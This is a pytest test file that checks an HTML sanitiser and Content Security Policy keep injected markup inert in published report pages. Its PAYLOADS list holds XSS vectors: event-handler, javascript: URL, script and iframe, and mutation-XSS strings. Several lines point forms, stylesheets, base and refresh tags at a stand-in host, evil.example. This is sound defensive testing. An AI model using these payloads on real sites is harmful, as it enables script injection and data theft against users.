"""Markup from data cannot be active in a published page: the allow-list sanitiser and the CSP."""

from __future__ import annotations

import re

import nbformat
import pytest
from publishing_helpers import PROV, html_output, tagged_notebook

from lsp_research.reporting.audit import audit_html
from lsp_research.reporting.export import export_tiers
from lsp_research.reporting.publish import write_index
from lsp_research.reporting.sanitise import CSP, clean_html
from lsp_research.tables import extract_files, show_table

#: What an attacker types into a ward, centre or indicator name, an owner or a note.
PAYLOADS = [
    '<img src=x onerror="alert(1)">',
    '<details open ontoggle="alert(2)"><summary>x</summary></details>',
    '<a href="javascript:alert(3)">click</a>',
    '<a href="  JAVASCRIPT:alert(3)">click</a>',
    "<script>alert(4)</script>",
    '<svg onload="alert(5)"><a xlink:href="javascript:alert(6)"><text>t</text></a></svg>',
    '<form action="https://evil.example/"><button>go</button></form>',
    '<iframe srcdoc="&lt;script&gt;alert(7)&lt;/script&gt;"></iframe>',
    '<object data="data:text/html,&lt;script&gt;alert(8)&lt;/script&gt;"></object>',
    '<div style="background:url(https://evil.example/x.png)">x</div>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>@import 'https://evil.example/x.css';</style>",
    "<base href='https://evil.example/'>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(9)">',
    '<noscript><p title="</noscript><img src=x onerror=alert(10)>">',
    "<scr<script>ipt>alert(11)</script>",
]

ACTIVE = {"active-content", "external-resource"}


def active(findings):
    return [f for f in findings if f.rule in ACTIVE]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_sanitiser_removes_every_payload(payload):
    page = f'<!DOCTYPE html><html lang="en-GB"><body><h1>R</h1>{clean_html(payload)}</body></html>'
    assert active(audit_html(page)) == [], clean_html(payload)
    assert not re.search(
        r"\son\w+\s*=|javascript:|<script|<iframe|<form|<object", clean_html(payload), re.I
    )


def test_the_sanitiser_keeps_what_reports_use():
    table = show_table(
        __import__("pandas").DataFrame({"Ward": ["Hendon", "Pallion"], "Admissions": [3, 40]}),
        "Admissions", counts=["Admissions"], display=False,
    )  # fmt: skip
    table = extract_files(table)[0]  # what the page writer leaves: the CSV carrier becomes a link
    assert clean_html(table) == table
    fig = '<figure class="lsp-chart"><img src="data:image/png;base64,AAAA" alt="A chart."><figcaption>c</figcaption></figure>'
    assert clean_html(fig) == fig
    assert clean_html('<a href="../../index.html">i</a><a href="#top">t</a>') == (
        '<a href="../../index.html">i</a><a href="#top">t</a>'
    )


def test_payloads_in_notebook_outputs_are_inert_in_every_tier(tmp_path):
    nb = tagged_notebook()
    for i, p in enumerate(PAYLOADS):
        nb.cells.append(
            nbformat.v4.new_markdown_cell(
                f"## Ward {i}: {p}", id=f"x{i}", metadata={"tags": ["board"]}
            )
        )
        nb.cells.append(
            nbformat.v4.new_code_cell(
                "",
                id=f"y{i}",
                metadata={"tags": ["board"]},
                outputs=[
                    html_output(f"<p>Centre {p}</p>"),
                    nbformat.v4.new_output("display_data", data={"text/markdown": f"Owner {p}"}),
                ],
            )  # fmt: skip
        )
    ctx = {"name": "performance", "period": "2009Q3", "provenance": PROV, "index_href": "../index.html",
           "parameter_set": PAYLOADS[0], "title": "Report " + PAYLOADS[1]}  # fmt: skip
    paths = export_tiers(nb, ["board", "operational"], tmp_path / "performance", ctx)
    index = write_index(
        tmp_path,
        [{"notebook": "performance", "title": PAYLOADS[2], "parameter_set": "city", "label": PAYLOADS[0],
          "files": {"board": paths[0]}, "summary": {"Note": PAYLOADS[4], "Admissions": 40}}],
        {"period": "2009Q3", "provenance": PROV},
    )  # fmt: skip
    for path in [*paths, index]:
        html = path.read_text(encoding="utf-8")
        assert active(audit_html(html, path.name)) == [], path.name
        head = html.split("<head>", 1)[1].split("</head>", 1)[0]
        csp = re.search(r'<meta[^>]*http-equiv="Content-Security-Policy"[^>]*>', head)
        assert csp and f'content="{CSP}"' in csp.group(), path.name
        assert head.index(csp.group()) < min(head.index("<style"), head.index("<link")), path.name
        assert "Ward 3" in html or path == index  # the text around the payload is still shown


def test_the_policy_forbids_scripts_and_outside_requests():
    directives = dict(d.strip().split(" ", 1) for d in CSP.split(";"))
    assert directives["default-src"] == "'none'"  # so script-src, connect-src, font-src: none
    assert directives["img-src"] == "data:"
    assert "script-src" not in directives and "'unsafe-eval'" not in CSP
    assert directives["form-action"] == "'none'" and directives["base-uri"] == "'none'"
